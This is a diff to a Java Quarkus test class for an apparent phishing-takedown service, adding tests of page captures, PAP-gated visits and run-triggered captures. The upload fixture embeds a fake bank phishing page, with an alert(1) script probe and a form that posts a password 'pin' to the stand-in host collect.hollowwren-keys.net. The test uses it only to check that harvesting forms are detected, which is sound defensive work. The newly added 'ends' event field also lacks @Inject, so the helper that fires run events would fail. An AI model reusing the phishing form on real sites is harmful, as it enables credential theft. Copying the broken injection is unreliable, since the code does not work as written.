@@ -14,6 +14,7 @@ import static takedown.web.People.as;
 
 import io.quarkus.narayana.jta.QuarkusTransaction;
 import io.quarkus.test.junit.QuarkusTest;
+import jakarta.enterprise.event.Event;
 import jakarta.inject.Inject;
 import jakarta.persistence.EntityManager;
 import java.awt.image.BufferedImage;
@@ -38,6 +39,9 @@ import takedown.history.target.StoredCapture;
 import takedown.history.target.Targets;
 import takedown.history.target.Targets.Made;
 import takedown.observation.EvidenceRef;
+import takedown.monitoring.run.Run;
+import takedown.monitoring.run.RunEnded;
+import takedown.monitoring.run.RunState;
 import takedown.observation.page.Capture;
 import takedown.observation.page.CaptureOutcome;
 import takedown.observation.page.Hop;
@@ -66,6 +70,7 @@ class CapturesTest {
 
     @Inject
     EntityManager database;
+    Event<RunEnded> ends;
 
     private static byte[] png() throws IOException {
         try (ByteArrayOutputStream out = new ByteArrayOutputStream()) {
@@ -166,7 +171,8 @@ class CapturesTest {
         String caseId = People.openCase("alice", "Uploads", true);
         String id = People.suspect(caseId, URL);
         byte[] picture = png();
-        String html = "<title>Bank</title><script>alert(1)</script>";
+        String html = "<html lang=de><title>Bank</title><script>alert(1)</script><form method=post"
+                + " action='https://collect.hollowwren-keys.net/in'><input type=password name=pin></form>";
         String capture = as("alice")
                 .multiPart("screenshot", "shot.png", picture, "image/png")
                 .multiPart("page", "page.html", html.getBytes(StandardCharsets.UTF_8), "text/html")
@@ -178,6 +184,13 @@ class CapturesTest {
                 .body("origin", equalTo("UPLOAD"))
                 .body("instrument", equalTo("UPLOAD"))
                 .body("sign", equalTo("NOTHING"))
+                .body("vantage", equalTo("upload"))
+                .body("profile", nullValue())
+                .body("takenAt", equalTo("2026-11-28T10:00:00Z"))
+                .body("title", equalTo("Bank"))
+                .body("language", equalTo("de"))
+                .body("forms[0].host", equalTo("collect.hollowwren-keys.net"))
+                .body("forms[0].wantsPassword", equalTo(true))
                 .body("note", equalTo("sent by the bank's customer"))
                 .extract()
                 .path("id");
@@ -235,6 +248,21 @@ class CapturesTest {
     void papForbidsTheLookAndTheMeterIsZero() {
         String caseId = People.openCase("alice", "PAP", true);
         String id = People.suspect(caseId, URL);
+        // A page in a sealed case is visited only after its lead has decided so.
+        as("alice")
+                .get("/api/cases/" + caseId + "/tip-off")
+                .then()
+                .statusCode(200)
+                .body("pap", equalTo("GREEN"))
+                .body("run.total", greaterThan(0))
+                .body("capture.total", equalTo(0));
+        as("alice").post("/api/suspects/" + id + "/captures").then().statusCode(409);
+        as("alice")
+                .contentType("application/json")
+                .body("{\"pap\": \"CLEAR\"}")
+                .patch("/api/cases/" + caseId)
+                .then()
+                .statusCode(200);
         as("alice")
                 .get("/api/cases/" + caseId + "/tip-off")
                 .then()
@@ -272,6 +300,57 @@ class CapturesTest {
                 before, askedAbout("hollowwren-keys"), "no server of the lab is asked about the suspect");
     }
 
+    @Test
+    void aRunOfACaseThatAsksForItIsFollowedByCaptures() {
+        String caseId = People.openCase("alice", "Captures with runs", false);
+        String id = People.suspect(caseId, URL);
+        as("alice").get("/api/cases/" + caseId).then().body("captureWithRuns", equalTo(false));
+        finished(caseId);
+        as("alice").get("/api/suspects/" + id + "/captures").then().body("items", hasSize(0));
+        as("alice")
+                .contentType("application/json")
+                .body("{\"captureWithRuns\": true, \"pap\": \"GREEN\"}")
+                .patch("/api/cases/" + caseId)
+                .then()
+                .statusCode(200)
+                .body("captureWithRuns", equalTo(true));
+        finished(caseId);
+        as("alice").get("/api/suspects/" + id + "/captures").then().body("items", hasSize(0));
+        as("alice")
+                .contentType("application/json")
+                .body("{\"pap\": \"CLEAR\"}")
+                .patch("/api/cases/" + caseId)
+                .then()
+                .statusCode(200);
+        finished(caseId);
+        as("alice")
+                .get("/api/suspects/" + id + "/captures")
+                .then()
+                .body("items.size()", greaterThan(0), "items[0].origin", equalTo("SERVICE"));
+    }
+
+    /** What follows on a run of the case that ended. */
+    private void finished(String caseId) {
+        Instant now = Instant.now();
+        ends.fire(new RunEnded(new Run(
+                UUID.randomUUID(),
+                Run.Kind.CASE,
+                Optional.of(UUID.fromString(caseId)),
+                Optional.empty(),
+                RunState.COMPLETED,
+                1,
+                1,
+                0,
+                0,
+                1,
+                java.util.Map.of(),
+                List.of(),
+                now,
+                Optional.of(now),
+                "alice",
+                Optional.empty())));
+    }
+
     /** What the lab's servers were asked about a name, without the passive sources. */
     private static List<String> askedAbout(String name) {
         String lab = org.eclipse.microprofile.config.ConfigProvider.getConfig()
@@ -285,7 +364,7 @@ class CapturesTest {
 
     @Test
     void aCaptureOnDemandStatesWhatItSaw() {
-        String caseId = People.openCase("alice", "On demand", true);
+        String caseId = People.openCase("alice", "On demand", false);
         String id = People.suspect(caseId, URL);
         String capture = as("alice")
                 .post("/api/suspects/" + id + "/captures")
